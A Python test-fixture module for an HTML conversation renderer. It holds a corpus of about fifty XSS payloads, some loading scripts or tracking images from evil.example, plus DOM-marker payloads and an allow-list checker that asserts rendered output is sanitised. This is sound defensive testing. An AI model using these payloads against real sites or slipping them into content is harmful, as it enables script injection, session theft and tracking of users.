"""A corpus of HTML/XSS payloads, and conversations that carry them in every
place a renderer prints something: title, ids, project, models, text, code
blocks, inline code, thinking, tool names, tool inputs (keys and values, and a
raw string input), tool outputs and errors, attachment/image names and meta
(URLs), message ids, models and usage keys, opaque raw blocks.

``PAYLOADS`` are the classic vectors (checked statically: no tag, attribute,
link or resource may come from them). ``ACTIVE`` payloads try to mutate the
DOM when a browser runs them; each builds its marker at run time
(``'data-pw' + 'ned-…'``) so the marker text never appears in the payload
itself: finding ``data-pwned-*`` on an element, ``PWNED42`` in the title, or
an element with ``id="pw-injected"`` in the rendered DOM proves execution or
injection (tests/test_xss_browser.py)."""

from __future__ import annotations

from datetime import UTC, datetime

from polylogue.models import (
    IMAGE,
    Block,
    Conversation,
    Message,
    attachment,
    opaque,
    text,
    thinking,
    tool_result,
    tool_use,
)

PAYLOADS: list[str] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(\'img\')">',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "[click me](javascript:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    "<a href='vbscript:msgbox(1)'>vb</a>",
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "</code></pre><script>alert(1)</script>",
    "</code></pre></details></article><img src=x onerror=alert(1)>",
    "```\n</code></pre><script>alert('fence')</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width:expression(alert(1))">css expression</div>',
    "<p style=\"background-image:url('http://evil.example/track.png')\">tracked</p>",
    "@import url(http://evil.example/x.css); body{behavior:url(x.htc)}",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<img src="http://evil.example/track.png">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2028<script>alert(1)</script>\u2029",
    "\x00<script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "{{constructor.constructor('alert(1)')()}}",
]

ACTIVE: list[str] = [
    "<script>document.title='PW'+'NED'+(6*7)</script>",
    "<script>console.log('PW'+'NED-console')</script>",
    "<img src=x onerror=\"document.body.setAttribute('data-pw'+'ned-img','1')\">",
    "\"><svg onload=\"document.body.setAttribute('data-pw'+'ned-svg','1')\">",
    "'><img src=x onerror=document.body.setAttribute('data-pw'+'ned-sq','1')>",
    "</code></pre><script>document.body.setAttribute('data-pw'+'ned-pre','1')</script>",
    "</title><script>document.body.setAttribute('data-pw'+'ned-title','1')</script>",
    "</details></article><img src=x onerror=\"document.body.setAttribute('data-pw'+'ned-close','1')\">",
    "<details open ontoggle=\"document.body.setAttribute('data-pw'+'ned-toggle','1')\">x</details>",
    '<b id="pw-injected">injected element</b>',
    '<style>body{display:none}</style><i id="pw-injected">style</i>',
]

# what a run of the ACTIVE payloads leaves behind
MARKER_ATTR_PREFIX = "data-pwned"
MARKER_TITLE = "PWNED42"
MARKER_CONSOLE = "PWNED-console"
MARKER_ID = "pw-injected"

T0 = datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC)


def conversation(payload: str, *, provider: str = "claude-code", provider_id: str | None = None) -> Conversation:
    """A conversation with ``payload`` in every printable field."""
    call = f"call-{payload}"
    msgs = [
        Message(f"m0-{payload}", "system", [text(payload)], context=True, timestamp=T0),
        Message(
            f"m1-{payload}",
            "user",
            [text(payload), text(f"before\n```\n{payload}\n```\nafter `{payload}` end")],
            timestamp=T0,
            usage={payload: 1},
        ),
        Message(
            f"m2-{payload}",
            "assistant",
            [
                thinking(payload),
                text(payload),
                tool_use(call, payload, {"command": payload, payload: [payload, {"nested": payload}], "n": 1}),
                tool_use(f"{call}-raw", "Bash", payload),
            ],
            parent_id=f"m1-{payload}",
            timestamp=T0,
            model=payload,
            usage={"input": 3, "output": 4},
        ),
        Message(
            f"m3-{payload}",
            "tool",
            [tool_result(call, payload, is_error=False), tool_result(f"{call}-raw", payload, is_error=True)],
            timestamp=T0,
        ),
        Message(
            f"m4-{payload}",
            "user",
            [
                attachment(payload, extracted=payload, url=payload, mime=payload),
                attachment(payload, kind=IMAGE, url="javascript:alert(1)", data=payload),
                attachment(None, url=f"javascript:{payload}"),
                opaque({"type": payload, "html": payload}),
                Block(payload, payload, meta={"x": payload}),  # an unknown block type
            ],
            timestamp=T0,
            active=False,
            sidechain=True,
            meta={payload: payload},
        ),
        Message(f"m5-{payload}", payload, [text(payload)], timestamp=T0),  # an unknown role
    ]
    return Conversation(
        provider=provider,
        provider_id=provider_id or f"x-{payload}",
        title=payload,
        created_at=T0,
        updated_at=T0,
        messages=msgs,
        project=payload,
        models=[payload, "gpt-x"],
        parent_id=f"parent-{payload}",
        meta={"note": payload},
    )


def corpus_conversation(payloads: list[str], *, provider: str = "claude-code") -> Conversation:
    """One conversation carrying every payload in every field (title = all joined)."""
    convs = [conversation(p, provider=provider) for p in payloads]
    c = convs[0]
    c.title = " | ".join(payloads)
    c.messages = [m for conv in convs for m in conv.messages]
    return c


# ------------------------------------------------------------------ a static checker for rendered HTML

from html.parser import HTMLParser  # noqa: E402

ALLOWED_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "header",
    "h1",
    "dl",
    "dt",
    "dd",
    "code",
    "time",
    "nav",
    "a",
    "span",
    "main",
    "article",
    "div",
    "details",
    "summary",
    "pre",
    "strong",
    "em",
    "p",
    "footer",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
ALLOWED_ATTRS = {"class", "id", "href", "datetime", "charset", "http-equiv", "content", "name", "lang"}


class Scan(HTMLParser):
    """Every element, attribute, comment and text node of a document."""

    def __init__(self, doc: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.others: list[str] = []  # comments, declarations, processing instructions
        self.title = ""
        self._stack: list[str] = []
        self.feed(doc)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self._stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if tag in self._stack:
            while self._stack and self._stack.pop() != tag:
                pass

    def handle_data(self, data):
        cur = self._stack[-1] if self._stack else ""
        if cur == "title":
            self.title += data
        elif cur != "style":
            self.text.append(data)

    def handle_comment(self, data):
        self.others.append(f"comment:{data}")

    def handle_decl(self, decl):
        if decl.lower() != "doctype html":
            self.others.append(f"decl:{decl}")

    def unknown_decl(self, data):
        self.others.append(f"unknown:{data}")

    def handle_pi(self, data):
        self.others.append(f"pi:{data}")

    @property
    def all_text(self) -> str:
        return "".join(self.text)


def assert_safe_html(doc: str, *, hrefs: set[str] | None = None) -> Scan:
    """The document has only the elements and attributes the renderer emits
    itself: no script, no handler, no resource, no link out of the export."""
    from polylogue.render.html import CSP, CSS

    s = Scan(doc)
    assert not s.others, s.others
    tags = {t for t, _ in s.elements}
    assert tags <= ALLOWED_TAGS, tags - ALLOWED_TAGS
    for tag, attrs in s.elements:
        assert set(attrs) <= ALLOWED_ATTRS, (tag, attrs)
        assert not any(k.startswith("on") for k in attrs), (tag, attrs)
        if "href" in attrs:
            assert tag == "a", (tag, attrs)
            h = attrs["href"] or ""
            assert ":" not in h and not h.startswith(("/", "\\")) and not h.lower().startswith("javascript"), h
            if hrefs is not None:
                assert h in hrefs, (h, hrefs)
        if tag == "meta" and "http-equiv" in attrs:
            assert attrs["http-equiv"] == "Content-Security-Policy" and attrs["content"] == CSP, attrs
    assert sum(1 for t, a in s.elements if t == "meta" and a.get("http-equiv")) == 1
    assert [t for t, _ in s.elements].count("style") == 1
    assert doc.count(CSS) == 1
    return s


def visible(payload: str, text: str) -> bool:
    """The payload's characters are shown (code fences and backticks may be
    turned into <pre>/<code>, so compare with those removed)."""
    strip = lambda s: "".join(line for line in s.replace("`", "").split("\n") if line)
    return strip(payload.replace("\0", "\ufffd")) in strip(text)
